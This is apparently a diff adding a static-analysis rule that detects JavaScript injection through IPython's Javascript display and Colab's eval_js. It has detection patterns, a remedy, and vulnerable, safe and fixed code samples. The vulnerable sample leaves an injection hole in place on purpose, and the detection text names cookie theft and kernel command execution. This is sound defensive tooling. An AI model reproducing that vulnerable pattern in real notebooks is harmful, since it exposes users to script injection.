+	Class:      checks.Vulnerability,
+	Severity:   checks.High,
+	Profile:    checks.Default,
+	Inputs:     []checks.Input{checks.Python, checks.Notebook},
+	Engine:     "flow",
+	Frameworks: []string{"ipython", "google-colab"},
+	Reading:    "IPython.display.Javascript and Colab's output.eval_js evaluate a string in the page. Text pasted into it ends the string literal and goes on as script. In a `%%javascript` or `%%html` cell the script is the author's own; there only script that reads cookies and sends them, drives the Jupyter API or makes the kernel run system commands is reported.",
+	Detect: []string{
+		"user | upload | web | document | retrieved | llm | tool -> a part or the whole of IPython.display.Javascript(X | data=X), IPython.core.display.Javascript, google.colab.output.eval_js(X), display_javascript(X, raw=True)",
+		"or Javascript(url=U) / Javascript(lib=[U]) where U folds to an http: address",
+		"or a constant Javascript(...) text, or a cell that starts with %%javascript, %%js or %%html, with one of the signs (a), (b), (c) of PML4102",
+	},
+	Ignore: []string{
+		"json.dumps(X) where the value goes into the script; int() / float(); a membership test",
+		"`IPython.notebook.kernel.execute('nb_name = ...' + IPython.notebook.notebook_name)`, cell toggles, scrolling, downloads by blob, requirejs settings",
+		"https libraries in url= or lib=",
+	},
+	ReportAt:    "the interpolated expression, the argument, or the cell",
+	Specializes: []string{"PML1154", "PML4107"},
+	Remedy:      checks.Remedy{Safe: false, Edit: "inside a JavaScript string literal replace `{X}` by `' + {json.dumps(X)} + '` with that literal's quote (an empty literal left over goes with its +), outside one by `{json.dumps(X)}`; add `import json`; change `http://` to `https://`; empty the source of a cell with such script"},
+	CWE:         []string{"CWE-79", "CWE-95"},
+	OWASPLLM:    []string{"LLM05"},
+	ATLAS:       []string{"AML.T0077"},
+	NIST:        []string{"NISTAML.05"},
+	Vulnerable: `import requests
+from IPython.display import Javascript, display
+
+def announce(run_id):
+    run = requests.get(f"https://tracker.example.org/api/runs/{run_id}", timeout=10).json()
+    status = run["status_text"]
+    display(Javascript(f"alert('Run finished: {status}')"))  # want
+`,
+	Safe: `import json
+import requests
+from IPython.display import Javascript, display
+
+def announce(run_id):
+    run = requests.get(f"https://tracker.example.org/api/runs/{run_id}", timeout=10).json()
+    status = json.dumps("Run finished: " + run["status_text"])
+    display(Javascript(f"alert({status})"))
+`,
+	Fixed: `import json
+import requests
+from IPython.display import Javascript, display
+
+def announce(run_id):
+    run = requests.get(f"https://tracker.example.org/api/runs/{run_id}", timeout=10).json()
+    status = run["status_text"]
+    display(Javascript(f"alert('Run finished: ' + {json.dumps(status)})"))
 `,
 }
 
